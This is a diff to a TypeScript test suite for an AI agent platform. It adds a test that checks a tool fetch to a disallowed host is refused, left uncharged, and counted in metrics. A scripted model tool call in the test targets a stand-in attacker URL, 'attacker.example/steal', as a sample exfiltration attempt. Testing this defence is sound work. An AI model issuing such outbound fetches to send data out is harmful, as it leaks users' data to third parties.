@@ -10,6 +10,7 @@ import { sendJson, startHttpPeer, type HttpPeer } from '../blocks/peers/http-pee
 import { openAiCompletion, openAiToolCalls, startLlmPeer, type LlmPeer } from '../blocks/peers/llm-peers.js';
 import { balanceOf } from '../credits/credits.fixtures.js';
 import { createTestApp, type TestApp } from '../helpers/app.js';
+import { metricValue, scrape } from '../helpers/metrics.js';
 import { echoAgent, link, node, saveAgent } from './graphs.fixture.js';
 
 interface ChargeRow {
@@ -186,5 +187,48 @@ describe('ai.agent credits per model call and per tool run', () => {
     expect(api.requests.length).toBe(sent);
     expect((await charges(id)).map((c) => c.charge_key)).toEqual(['step:1:model']);
     expect(await balanceOf(t.http, carol.key)).toBe(0);
+  });
+
+  it('refuses a tool URL outside its hosts before charging it, and counts model calls, tokens, tool calls and the refusal in /metrics', async () => {
+    const figures = async () => {
+      const text = await scrape(t);
+      return {
+        calls: metricValue(text, 'trellis_ai_agent_model_calls_total', { model: 'local-model' }),
+        input: metricValue(text, 'trellis_ai_agent_tokens_total', { model: 'local-model', kind: 'input' }),
+        output: metricValue(text, 'trellis_ai_agent_tokens_total', { model: 'local-model', kind: 'output' }),
+        ok: metricValue(text, 'trellis_ai_agent_tool_calls_total', { kind: 'block', outcome: 'ok' }),
+        failed: metricValue(text, 'trellis_ai_agent_tool_calls_total', { kind: 'block', outcome: 'error' }),
+        refused: metricValue(text, 'trellis_outbound_refusals_total', { reason: 'tool_host' }),
+      };
+    };
+    const before = await figures();
+    llm.script(
+      openAiToolCalls([
+        ['call_1', 'fetch', { url: 'http://attacker.example/steal' }],
+        ['call_2', 'join', { items: ['a'] }],
+      ]),
+      openAiCompletion('Done', { prompt_tokens: 40, completion_tokens: 5 }),
+    );
+    const sent = api.requests.length;
+    const { id, body } = await run(alice);
+    expect(body.status).toBe('COMPLETED');
+    // The refused fetch was never charged (nor sent); the two model calls were.
+    expect((await charges(id)).map((c) => c.charge_key)).toEqual(['step:1:model', 'step:2:model']);
+    expect(api.requests.length).toBe(sent);
+    expect(brainOf(body).ai_agent).toMatchObject({
+      steps: [
+        expect.objectContaining({ tool: 'fetch', cost: 0, error: expect.stringContaining("outside this tool's hosts") }),
+        expect.objectContaining({ tool: 'join', result: { text: 'a' } }),
+      ],
+    });
+    const after = await figures();
+    expect({
+      calls: after.calls - before.calls,
+      input: after.input - before.input,
+      output: after.output - before.output,
+      ok: after.ok - before.ok,
+      failed: after.failed - before.failed,
+      refused: after.refused - before.refused,
+    }).toEqual({ calls: 2, input: 50, output: 7, ok: 1, failed: 1, refused: 1 });
   });
 });
